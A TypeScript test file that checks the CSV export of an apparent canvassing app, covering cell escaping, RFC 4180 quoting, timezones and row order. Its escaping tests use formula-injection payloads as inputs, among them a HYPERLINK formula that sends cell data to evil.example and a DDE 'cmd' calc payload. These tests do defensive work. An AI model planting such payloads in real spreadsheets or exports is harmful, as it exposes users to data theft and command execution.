import { beforeAll, describe, expect, it } from 'vitest';
import type { AuthContext } from '@/lib/auth/session';
import { toPolisFilter } from '@/lib/filters/filters';
import { DEMO_USERS } from '@/lib/sandbox/seed/seed';
import { inProcessPolis } from '@/lib/testing/in-process-polis';
import { csvCell } from './csv-cell';
import { exportInteractionsCsv } from './export-csv';
import { readTableQuery } from './queries';

describe('csvCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+1+cmd', "'+1+cmd"],
    ['-1+HYPERLINK("http://evil.example/?x="&B2,"x")', `"'-1+HYPERLINK(""http://evil.example/?x=""&B2,""x"")"`],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['-1e3', "'-1e3"],
    ['-1.5.2', "'-1.5.2"],
    ['\t=1', "'\t=1"],
  ])('keeps a spreadsheet from running %s as a formula', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['-0.25', '-0.25'],
    ['-12', '-12'],
    [-3.5, '-3.5'],
    [42, '42'],
    ['plain text', 'plain text'],
    [null, ''],
  ])('leaves %s, which is exactly a number or plain text, as it is', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says', () => {
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
  });
});

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  return rows;
}

let auth: AuthContext;
let campaignId: string;

beforeAll(async () => {
  auth = await (await inProcessPolis()).signIn(DEMO_USERS.organizer);
  campaignId = (await auth.polis.listCampaigns({ limit: 1 })).data[0]!.id;
}, 60_000);

describe('the CSV export', () => {
  it('writes one row for every interaction matching the filters, with a column per survey question', async () => {
    const filters = { outcome: 'successful' as const };
    const bytes = new Uint8Array(
      await new Response(exportInteractionsCsv(auth, campaignId, filters, 'America/New_York', readTableQuery({}), 'metric')).arrayBuffer(),
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the byte-order mark, so a spreadsheet reads UTF-8
    const [header, ...rows] = parseCsv(new TextDecoder().decode(bytes));
    const { total } = await auth.polis.listInteractions({ filter: toPolisFilter(campaignId, filters, 'America/New_York'), limit: 0 });
    expect(total).toBeGreaterThan(0);
    expect(rows).toHaveLength(total);
    const surveys = await auth.polis.listSurveys({ limit: 100 });
    const questionTexts = surveys.data.filter((s) => s.data.campaignId === campaignId).flatMap((s) => s.data.questions.map((q) => q.text));
    expect(header).toEqual([
      'Interaction id',
      'Time (local)',
      'Time (UTC)',
      'Contact',
      'Address',
      'Canvasser',
      'List',
      'Outcome',
      'Unavailable reason',
      'Distance (metres)',
      'GPS accuracy (metres)',
      'Latitude',
      'Longitude',
      ...questionTexts,
    ]);
    expect(new Set(rows.map((row) => row[7]))).toEqual(new Set(['Successful']));
    // Each row's local time is its UTC time on New York's clock, with the offset of that day.
    expect(rows.every((row) => Date.parse(row[1]!) === Date.parse(row[2]!) && /[-+]0[45]:00$/.test(row[1]!))).toBe(true);
    expect(rows.every((row) => row.length === header!.length)).toBe(true);
    // In the table's default order: newest first.
    const times = rows.map((row) => row[2]!);
    expect(times).toEqual([...times].sort().reverse());
  });
});
